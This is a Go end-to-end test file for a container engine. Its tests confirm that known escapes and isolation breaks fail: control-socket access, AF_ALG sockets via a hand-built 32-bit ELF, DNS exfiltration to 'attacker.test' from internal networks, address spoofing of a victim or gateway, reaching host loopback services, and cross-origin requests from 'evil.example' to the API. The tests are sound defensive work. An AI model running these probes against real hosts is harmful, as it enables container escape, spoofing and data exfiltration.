package e2e

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"golang.org/x/sys/unix"
)

// pids are the daemon's processes: itself, its shim and its name server.
func (d *Daemon) pids(t *testing.T) []string {
	t.Helper()
	var pids []string
	procs, err := filepath.Glob("/proc/[0-9]*/cmdline")
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range procs {
		b, err := os.ReadFile(p)
		if err == nil && bytes.Contains(b, []byte(d.RunRoot)) && bytes.HasPrefix([]byte(filepath.Base(string(bytes.Split(b, []byte{0})[0]))), []byte("tenon")) {
			pids = append(pids, filepath.Base(filepath.Dir(p)))
		}
	}
	if len(pids) < 2 {
		t.Fatalf("only %v run", pids)
	}
	return pids
}

// TestA13ControlSockets (CVE-2020-15257): root in a container on the host's
// network reaches no socket of the engine.
func TestA13ControlSockets(t *testing.T) {
	d := newTarget(t)
	d.Must(t, "run", "-d", "--name", "other", "-p", "127.0.0.1::80", "busybox", "sleep", "100000")
	abstract := map[string]string{}
	b, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(b)) {
		if f := strings.Fields(line); len(f) == 8 && strings.HasPrefix(f[7], "@") {
			abstract["socket:["+f[6]+"]"] = f[7]
		}
	}
	listening := map[string]string{}
	for _, p := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(b)) {
			if f := strings.Fields(line); len(f) > 9 && f[3] == "0A" {
				listening["socket:["+f[9]+"]"] = f[1]
			}
		}
	}
	for _, pid := range d.pids(t) {
		fds, err := filepath.Glob("/proc/" + pid + "/fd/*")
		if err != nil {
			t.Fatal(err)
		}
		for _, fd := range fds {
			to, _ := os.Readlink(fd) // closed meanwhile: none
			if name := abstract[to]; name != "" {
				t.Errorf("process %s has the abstract socket %s", pid, name)
			}
			if at, ok := listening[to]; ok && !strings.HasSuffix(at, ":0035") {
				t.Errorf("process %s listens on TCP %s of the host", pid, at)
			}
		}
	}
	sockets := d.Sh(t, "find "+d.RunRoot+" "+d.Root+" -type s").Out
	if len(strings.Fields(sockets)) < 2 {
		t.Fatalf("the engine's sockets are %q", sockets)
	}
	r := d.Docker(t, append([]string{"run", "--rm", "--network", "host", "--uts", "host", "busybox", "sh", "-c",
		`for s; do [ -e "$s" ] && echo "reached $s"; done; find / -xdev -type s; ls -d ` + d.RunRoot + `; ls /run; true`, "sh"}, strings.Fields(sockets)...)...)
	if strings.TrimSpace(r.Out) != "" {
		t.Errorf("in the container: %q", r.Out)
	}
}

// elf386 is a 32-bit program that asks socketcall for a socket of AF_ALG and
// ends with the error's number.
func elf386() []byte {
	const base, head = 0x08048000, 52 + 32
	code := []byte{
		0xb8, 102, 0, 0, 0, // mov eax, socketcall
		0xbb, 1, 0, 0, 0, // mov ebx, SYS_SOCKET
		0xb9, 0, 0, 0, 0, // mov ecx, arguments
		0xcd, 0x80, // int 0x80
		0x85, 0xc0, 0x78, 0x02, 0x31, 0xc0, 0xf7, 0xd8, // eax = eax < 0 ? -eax : 0
		0x89, 0xc3, 0xb8, 1, 0, 0, 0, 0xcd, 0x80, // exit(eax)
		unix.AF_ALG, 0, 0, 0, unix.SOCK_SEQPACKET, 0, 0, 0, 0, 0, 0, 0,
	}
	binary.LittleEndian.PutUint32(code[11:], uint32(base+head+len(code)-12))
	var b bytes.Buffer
	b.Write([]byte{0x7f, 'E', 'L', 'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0})
	for _, v := range []any{uint16(2), uint16(3), uint32(1), uint32(base + head), uint32(52), uint32(0), uint32(0), uint16(52), uint16(32), uint16(1), uint16(0), uint16(0), uint16(0),
		uint32(1), uint32(0), uint32(base), uint32(base), uint32(head + len(code)), uint32(head + len(code)), uint32(5), uint32(0x1000)} {
		_ = binary.Write(&b, binary.LittleEndian, v) // to memory: never fails
	}
	b.Write(code)
	return b.Bytes()
}

// TestA15Families (CVE-2026-31431): the host's kernel keeps AF_ALG and AF_VSOCK
// to itself, by each of the ways to a socket.
func TestA15Families(t *testing.T) {
	d := newTarget(t)
	self := selfPath(t)
	for _, flags := range [][]string{nil, {"--network", "host"}, {"--cap-add", "ALL"}} {
		out := d.Must(t, append(append([]string{"run", "--rm", "-v", self + ":/probe:ro", "-e", "TENON_E2E_PROBE=sockets"}, flags...), "busybox", "/probe")...)
		want := fmt.Sprintf("%d operation not permitted\n%d operation not permitted\n%d <nil>", unix.AF_ALG, unix.AF_VSOCK, unix.AF_INET)
		if out != want {
			t.Errorf("%v: %q", flags, out)
		}
	}
	d.forge(t, "old", nil, file("old", string(elf386())))
	switch r := d.Docker(t, "run", "--rm", "old", "/old"); r.Code {
	case int(unix.ENOSYS):
	case 126, 127: // this kernel runs no 32-bit programs
		if !strings.Contains(r.Err, "exec format error") {
			t.Errorf("exit %d: %s", r.Code, r.Err)
		}
	default:
		t.Errorf("socketcall(AF_ALG) gave %d %s", r.Code, r.Err)
	}
}

// TestE1InternalNames (CVE-2024-29018): names that containers of an internal
// network ask for go to no server outside.
func TestE1InternalNames(t *testing.T) {
	var asked atomic.Int64
	// A resolver at an address of its own: one on 127.0.0.0/8 would be the
	// container's own.
	upstream := fmt.Sprintf("198.18.%d.%d", os.Getpid()>>8&0xff, os.Getpid()&0xff)
	if out, err := exec.Command("ip", "addr", "add", upstream+"/32", "dev", "lo").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("ip", "addr", "del", upstream+"/32", "dev", "lo").Run() })
	conn, err := net.ListenPacket("udp", upstream+":53")
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	go func() {
		buf := make([]byte, 4096)
		for {
			n, from, err := conn.ReadFrom(buf)
			if err != nil {
				return
			}
			if bytes.Contains(buf[:n], []byte("\x08attacker")) {
				asked.Add(1)
			}
			if n > 4 { // a refusal, so that nobody waits
				buf[2], buf[3] = 0x81, 0x83
				_, _ = conn.WriteTo(buf[:n], from)
			}
		}
	}()
	d := newTarget(t, "--dns", upstream)
	d.Must(t, "network", "create", "open")
	d.Must(t, "network", "create", "--internal", "closed")
	d.Must(t, "run", "-d", "--name", "peer", "--network", "closed", "busybox", "sleep", "100000")
	r := d.Sh(t, `
		docker run --rm --network closed busybox nslookup secret.attacker.test
		docker run --rm --network closed busybox nslookup -type=TXT secret.attacker.test
		docker run --rm --network closed --dns `+upstream+` busybox nslookup secret.attacker.test
		docker run --rm --network closed --dns-search attacker.test busybox nslookup secret
		docker run --rm --network none busybox nslookup secret.attacker.test
		docker run --rm --network none --dns `+upstream+` busybox timeout 2 nslookup secret.attacker.test
		docker run --rm --network closed busybox ping -c 1 -W 5 peer >&2 && echo named >&2
		true`)
	if n := asked.Load(); n != 0 {
		t.Errorf("the server outside was asked %d times: %s", n, r.Out)
	}
	if !strings.Contains(r.Err, "named") {
		t.Errorf("the internal names do not work: %q", r.Err)
	}
	d.Sh(t, "docker run --rm --network open busybox nslookup secret.attacker.test")
	if asked.Load() == 0 {
		t.Error("the server outside is never asked: this test shows nothing")
	}
}

// TestE5Spoofing: a container that takes another one's address is not heard.
func TestE5Spoofing(t *testing.T) {
	d := newTarget(t)
	d.Must(t, "network", "create", "net")
	d.Must(t, "run", "-d", "--name", "victim", "--network", "net", "busybox", "sleep", "100000")
	d.Must(t, "run", "-d", "--name", "peer", "--network", "net", "busybox", "sleep", "100000")
	victim := d.Must(t, "inspect", "-f", "{{.NetworkSettings.Networks.net.IPAddress}}", "victim")
	peer := d.Must(t, "inspect", "-f", "{{.NetworkSettings.Networks.net.IPAddress}}", "peer")
	free := victim[:strings.LastIndex(victim, ".")] + ".200"
	t.Run("with", func(t *testing.T) {
		for name, c := range map[string]string{
			"another MAC":         "ip link set eth0 down; ip link set eth0 address 02:00:00:00:00:99; ip link set eth0 up; ",
			"another address":     "ip addr flush dev eth0; ip addr add " + free + "/24 dev eth0; ",
			"the victim's":        "ip addr flush dev eth0; ip addr add " + victim + "/24 dev eth0; ",
			"the gateway's":       "ip addr flush dev eth0; ip addr add $(ip route show default | awk '{print $3}')/24 dev eth0; ",
			"one more, and by it": "ip addr add " + free + "/24 dev eth0; ",
		} {
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				from := map[bool]string{true: "-I " + free}[name == "one more, and by it"]
				r := d.Docker(t, "run", "--rm", "--network", "net", "--cap-add", "NET_ADMIN", "busybox", "sh", "-c",
					"ping -c 1 -W 5 "+peer+" >/dev/null && echo before; "+c+"ping "+from+" -c 2 -W 1 -A "+peer+" >/dev/null && echo HEARD; true")
				if strings.TrimSpace(r.Out) != "before" {
					t.Errorf("%q %q", r.Out, r.Err)
				}
			})
		}
	})
	if out := d.Must(t, "exec", "victim", "ping", "-c", "1", "-W", "5", peer); !strings.Contains(out, "1 packets received") {
		t.Errorf("the victim: %s", out)
	}
}

// TestE6HostServices: what listens on the host's 127.0.0.1 is not reached by a
// gateway's address, nor is the engine.
func TestE6HostServices(t *testing.T) {
	d := newTarget(t)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go answer(l, "the host's service")
	port := l.Addr().(*net.TCPAddr).Port
	d.Must(t, "network", "create", "net")
	d.Must(t, "run", "-d", "--name", "web", "-p", "127.0.0.1::80", "busybox", "sh", "-c", "echo web >/index.html; httpd -f -p 80 -h /")
	published := d.Must(t, "port", "web", "80/tcp")
	published = published[strings.LastIndex(published, ":")+1:]
	if r := d.Sh(t, fmt.Sprintf("curl -s --max-time 10 http://127.0.0.1:%d/; curl -s --max-time 10 --retry 20 --retry-delay 1 --retry-connrefused http://127.0.0.1:%s/", port, published)); r.Out != "the host's serviceweb\n" {
		t.Fatalf("the host itself: %q %q", r.Out, r.Err)
	}
	for _, network := range []string{"bridge", "net"} {
		script := fmt.Sprintf(`gw=$(ip route show default | awk '{print $3}'); [ -n "$gw" ] || exit 1
			for port in %d %s; do for to in $gw 127.0.0.1 0.0.0.0; do wget -q -T 1 -O - http://$to:$port/; done; done 2>/dev/null
			ip addr del 127.0.0.1/8 dev lo; ip route add 127.0.0.1 via $gw 2>/dev/null
			for port in %[1]d %[2]s; do wget -q -T 1 -O - http://127.0.0.1:$port/; done 2>/dev/null; echo done`, port, published)
		r := d.Docker(t, "run", "--rm", "--network", network, "--cap-add", "NET_ADMIN", "--sysctl", "net.ipv4.conf.all.route_localnet=1", "busybox", "sh", "-c", script)
		if strings.TrimSpace(r.Out) != "done" {
			t.Errorf("from %s: %q %q", network, r.Out, r.Err)
		}
	}
}

// answer says text to everybody who connects, as HTTP/1.0 does.
func answer(l net.Listener, text string) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		_, _ = fmt.Fprintf(c, "HTTP/1.0 200 OK\r\n\r\n%s", text)
		buf := make([]byte, 4096)
		_, _ = c.Read(buf) // so that closing does not reset
		_ = c.Close()
	}
}

// TestE7Neighbours: another machine on the wire reaches neither a container's
// address nor what is published on the host's 127.0.0.1.
func TestE7Neighbours(t *testing.T) {
	d := newTarget(t)
	n, err := strconv.Atoi(strings.TrimPrefix(d.Name, "te"))
	if err != nil {
		t.Fatal(err)
	}
	// Names and addresses that are this daemon's alone on the machine.
	ns, a, b := d.Name+"wire", d.Name+"w0", d.Name+"w1"
	host, neighbour := fmt.Sprintf("198.51.100.%d", 4*n+1), fmt.Sprintf("198.51.100.%d", 4*n+2)
	setup := fmt.Sprintf(`set -e
		ip netns add %[1]s; ip link add %[2]s type veth peer name %[3]s netns %[1]s
		ip addr add %[4]s/30 dev %[2]s; ip link set %[2]s up
		ip -n %[1]s addr add %[5]s/30 dev %[3]s; ip -n %[1]s link set %[3]s up; ip -n %[1]s link set lo up; ip -n %[1]s route add default via %[4]s`, ns, a, b, host, neighbour)
	t.Cleanup(func() { d.Sh(t, "ip link del "+a+"; ip netns del "+ns) })
	if r := d.Sh(t, setup); r.Code != 0 {
		t.Fatal(r.Err)
	}
	d.Must(t, "run", "-d", "--name", "web", "-p", "127.0.0.1::80", "-p", host+"::81", "busybox", "sh", "-c", "echo web >/index.html; httpd -p 81 -h /; httpd -f -p 80 -h /")
	local := regexp.MustCompile(`\d+$`).FindString(d.Must(t, "port", "web", "80/tcp"))
	wide := regexp.MustCompile(`\d+$`).FindString(d.Must(t, "port", "web", "81/tcp"))
	ip := d.Must(t, "inspect", "-f", "{{.NetworkSettings.Networks.bridge.IPAddress}}", "web")
	get := func(to string) string {
		return strings.TrimSpace(d.Sh(t, "ip netns exec "+ns+" curl -s --max-time 1 http://"+to+"/").Out)
	}
	eventually(t, "what is published to them", func() string {
		if s := get(host + ":" + wide); s != "web" {
			return s
		}
		return ""
	})
	d.Sh(t, "ip netns exec "+ns+" sh -c 'sysctl -qw net.ipv4.conf.all.route_localnet=1; ip addr del 127.0.0.1/8 dev lo; ip route add 127.0.0.1 via "+host+"'")
	for _, to := range []string{host + ":" + local, ip + ":80", ip + ":81", "127.0.0.1:" + local} {
		if s := get(to); s != "" {
			t.Errorf("%s answers a neighbour: %q", to, s)
		}
	}
}

// TestP4Browsers: what a web page can make a browser send is refused; a plain
// TCP socket that others can reach is not opened.
func TestP4Browsers(t *testing.T) {
	d := newTarget(t)
	for _, header := range [][]string{{"Origin", "http://evil.example"}, {"Origin", "https://evil.example:443"}} {
		for _, c := range []struct{ method, path string }{{"GET", "/containers/json"}, {"POST", "/containers/create"}, {"POST", "/tenon/v1/shutdown"}} {
			if code, b := d.api(t, c.method, c.path, []byte("{}"), header...); code != 403 {
				t.Errorf("%s %s with %v: %d %s", c.method, c.path, header, code, b)
			}
		}
	}
	if code, b := d.api(t, "GET", "/_ping", nil); code != 200 {
		t.Errorf("%d %s", code, b)
	}
	args := slices.Clone(d.Args)
	args = append(args, "--host", "tcp://0.0.0.0:0", "--root", t.TempDir(), "--run-root", t.TempDir())
	r := d.run(t, 20e9, filepath.Join(d.Bin, "tenond"), args...)
	if r.Code == 0 || !strings.Contains(strings.ToLower(r.Out+r.Err), "tls") {
		t.Errorf("a TCP socket without TLS: exit %d %q %q", r.Code, r.Out, r.Err)
	}
}
